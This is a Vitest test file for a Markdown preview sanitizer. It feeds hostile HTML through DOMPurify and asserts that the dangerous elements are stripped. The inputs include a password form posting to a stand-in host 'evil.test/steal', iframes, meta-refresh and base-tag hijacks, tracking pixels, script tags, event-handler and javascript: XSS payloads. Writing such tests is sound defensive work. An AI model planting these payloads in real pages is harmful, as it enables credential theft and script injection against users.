/**
 * The export preview's sanitizer on hostile notes, with the real DOMPurify bound to a jsdom
 * window (DOMPurify needs a DOM; jsdom is one in plain Node).
 */
import DOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { createPreviewRenderer } from '../../../markdown/preview';

function renderer() {
  const { window } = new JSDOM('<!doctype html><html><body></body></html>');
  const render = createPreviewRenderer(DOMPurify(window as unknown as Window & typeof globalThis));
  return (markdown: string) => {
    const html = render(markdown);
    const doc = new JSDOM(`<!doctype html><body>${html}</body>`).window.document;
    return { html, doc };
  };
}

const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

describe('preview sanitizer', () => {
  const render = renderer();

  it('drops style elements and attributes, classes, ids and roles', () => {
    const { doc, html } = render(
      '<style>body { display: none }</style>\n\n<p style="position:fixed;inset:0" class="field-error" id="app" role="button" aria-label="Export report">Hello</p>\n\n<svg><style>body{color:red}</style></svg>\n',
    );
    expect(doc.querySelectorAll('style, svg')).toHaveLength(0);
    const paragraph = doc.querySelector('p');
    expect(paragraph?.textContent).toBe('Hello');
    expect(paragraph?.attributes).toHaveLength(0);
    expect(html).not.toMatch(/display: none|position:fixed/);
  });

  it('drops forms and every field, frames, objects, embeds and media', () => {
    const { doc, html } = render(
      [
        '<form action="https://evil.test/steal" method="post"><label>Password <input type="password" name="pw"></label><button>Sign in</button><textarea>x</textarea><select><option>a</option></select></form>',
        '<iframe src="https://evil.test/frame"></iframe>',
        '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">',
        '<video src="https://evil.test/v.mp4" poster="https://evil.test/p.png"></video><audio src="https://evil.test/a.mp3"></audio>',
        '<link rel="stylesheet" href="https://evil.test/s.css"><meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
        '',
        '- [x] a task list box is an input too',
      ].join('\n'),
    );
    expect(doc.querySelectorAll('form, input, button, textarea, select, option, label, iframe, object, embed, video, audio, link, meta, base')).toHaveLength(0);
    expect(html).not.toContain('evil.test');
    expect(doc.body.textContent).toContain('a task list box is an input too');
  });

  it('drops the address of a remote image (its alt text stays) and keeps inline images', () => {
    const { doc, html } = render(
      `![Tracking pixel](https://evil.test/pixel.png)\n\n<img src="//evil.test/b.png" srcset="https://evil.test/c.png 2x" alt="b">\n\n<img src="http://evil.test/d.png">\n\n<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>">\n\n![Inline dot](${PNG})\n`,
    );
    const images = [...doc.querySelectorAll('img')];
    expect(images.map((image) => image.getAttribute('alt'))).toEqual(['Tracking pixel', 'b', null, null, 'Inline dot']);
    expect(images.map((image) => image.getAttribute('src'))).toEqual([null, null, null, null, PNG]);
    expect(html).not.toContain('evil.test');
    expect(html).not.toContain('srcset');
  });

  it('keeps the report itself: headings, emphasis, links, lists, code and tables', () => {
    const { doc } = render('### :star: **Awesome talks**\n\n[Talk](https://youtu.be/abcdefghijk?t=60) by Ann - [slides](https://e.com/s)\n\n- one\n- `two`\n\n| a | b |\n| - | - |\n| 1 | 2 |\n');
    expect(doc.querySelector('h3')?.innerHTML).toBe('⭐ <strong>Awesome talks</strong>');
    expect([...doc.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual(['https://youtu.be/abcdefghijk?t=60', 'https://e.com/s']);
    expect(doc.querySelectorAll('li')).toHaveLength(2);
    expect(doc.querySelector('code')?.textContent).toBe('two');
    expect(doc.querySelectorAll('td')).toHaveLength(2);
  });

  it('drops scripts, event handlers and javascript: links', () => {
    const { doc, html } = render('<script>alert(1)</script>\n\n<a href="javascript:alert(1)" onclick="alert(2)">x</a> <img src=x onerror="alert(3)">\n\n[y](javascript:alert(4))\n');
    expect(doc.querySelectorAll('script')).toHaveLength(0);
    expect(html).not.toMatch(/alert|onclick|onerror|javascript:/);
  });

  it('refuses to run without a DOM, where DOMPurify would return its input unsanitized', () => {
    expect(() => createPreviewRenderer(DOMPurify())).toThrow(/needs a DOM/);
  });
});
